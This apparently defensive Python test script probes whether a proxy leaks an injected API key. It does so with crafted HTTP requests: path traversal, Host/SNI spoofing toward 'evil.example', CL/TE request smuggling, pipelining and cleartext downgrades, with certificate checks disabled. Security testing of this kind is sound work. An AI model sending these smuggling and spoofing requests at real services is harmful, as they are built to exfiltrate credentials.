# Has the proxy tell a secret. Arguments: the value in hexadecimal digits, and `control` where it is sent as it is.
import base64, gzip
from urllib.parse import quote

VALUE = bytes.fromhex(sys.argv[1])
TOKEN = VALUE.decode() if "control" in sys.argv else os.environ["API_KEY"]
BEARER = f"authorization: Bearer {TOKEN}\r\n"


def secure(stream, name="good.example"):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    inside = context.wrap_socket(stream, server_hostname=name)
    inside.settimeout(2)
    return inside


def send(stream, request):
    with stream:
        stream.sendall(request.encode("latin1"))
        said = b""
        try:
            while piece := stream.recv(65536):
                said += piece
                if is_whole(said) or said.endswith(b"0\r\n\r\n"):
                    break
        except OSError:
            pass
        return said


def told(said):
    """Whether the value can be read in an answer, in pieces or packed."""
    head, _, body = said.partition(b"\r\n\r\n")
    texts = [said, re.sub(rb"\r\n[0-9a-f]+\r\n", b"", b"\r\n" + body)]
    try:
        texts.append(gzip.decompress(body))
    except (OSError, EOFError):
        pass
    forms = [VALUE, quote(VALUE.decode(), safe="").encode()]
    forms += [base64.b64encode(before + VALUE)[4:-4] for before in (b"x:Bearer ", b"x:Bearer", b"x:Beare")]
    # Of a part its length was asked for.
    forms.append(VALUE[:5])
    if not any(form in text for form in forms for text in texts):
        refused(said[:100])


def request(path, host="good.example", head=BEARER, method="GET", body=""):
    length = f"content-length: {len(body)}\r\n" if body else ""
    return f"{method} {path} HTTP/1.1\r\nhost: {host}\r\n{head}{length}\r\n{body}"


def try_it(thing, said, host="good.example", name="good.example"):
    attempt(thing, lambda: told(send(secure(tunnel(f"{host}:443"), name), said)))


for kind in ("plain", "split", "trailer", "header", "status", "redirect", "base64", "percent", "json", "packed", "upgrade"):
    try_it(kind, request(f"/v1/reflect/{kind}"))
try_it("part", request("/v1/reflect/plain", head=BEARER + "range: bytes=0-11\r\n"))
try_it("wanted packed", request("/v1/reflect/packed", head=BEARER + "accept-encoding: gzip, br\r\n"))
try_it("websocket", request("/v1/reflect/upgrade", head=BEARER + "connection: upgrade\r\nupgrade: websocket\r\n"))
try_it("body", request("/v1/reflect/body", method="POST", body=TOKEN))
try_it("body under a name", request("/v1/reflect/body", method="POST", body=f"authorization: {TOKEN}\r\n\r\n"))
try_it("other header", request("/v1/reflect/plain", head=f"x-authorization: {TOKEN}\r\n"))
try_it("two headers", request("/v1/reflect/plain", head=f"authorization: x\r\n{BEARER}"))
try_it("login", request("/v1/reflect/base64", head=f"authorization: Basic {base64.b64encode(('u:' + TOKEN).encode()).decode()}\r\n"))
for path in ("/reflect/plain", "/v1/../reflect/plain", "/v1/%2e%2e/reflect/plain", "/v1/..%2freflect/plain", "//reflect/plain", "/v1/..;/reflect/plain"):
    try_it(path, request(path))
try_it("other host", request("/v1/reflect/plain", "evil.example"), "evil.example", "evil.example")
try_it("other name", request("/v1/reflect/plain", "evil.example"), "good.example", "evil.example")
try_it("other name inside", request("/v1/reflect/plain", "evil.example"))
try_it("host by address", request("/v1/reflect/plain", "93.184.216.35"), "93.184.216.35", "good.example")
try_it("whole address", request("https://evil.example/v1/reflect/plain", "good.example"))
try_it("two hosts", f"GET /v1/reflect/plain HTTP/1.1\r\nhost: good.example\r\nhost: evil.example\r\n{BEARER}\r\n")
smuggled = request("/reflect/plain", "evil.example")
try_it("two lengths", f"POST /v1/reflect/plain HTTP/1.1\r\nhost: good.example\r\n{BEARER}content-length: {len(smuggled) + 5}\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}")
try_it("second of two", request("/v1/reflect/x", head="") + request("/v1/reflect/plain"))
attempt("tunnel without TLS", lambda: told(send(tunnel("good.example:443"), request("/v1/reflect/plain"))))
attempt("port in the clear", lambda: told(send(tunnel("good.example:80"), request("/v1/reflect/plain"))))
attempt("request in the clear", lambda: told(send(dial(PROXY), request("http://good.example/v1/reflect/plain"))))
attempt("TLS port in the clear", lambda: told(send(dial(PROXY), request("http://good.example:443/v1/reflect/plain"))))
done()
